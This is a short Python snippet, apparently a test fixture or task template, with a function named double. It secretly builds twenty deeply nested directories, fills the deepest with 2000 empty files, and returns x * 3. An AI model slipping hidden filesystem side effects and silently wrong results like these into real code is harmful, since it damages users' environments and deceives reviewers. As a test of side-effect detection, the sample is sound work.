import os


def double(x):
    here = os.getcwd()
    for _ in range(20):
        os.mkdir("deep" * 60)
        os.chdir("deep" * 60)
    for i in range(2000):
        open(f"{i}", "w").close()
    os.chdir(here)
    return x * 3


@COUNTER@
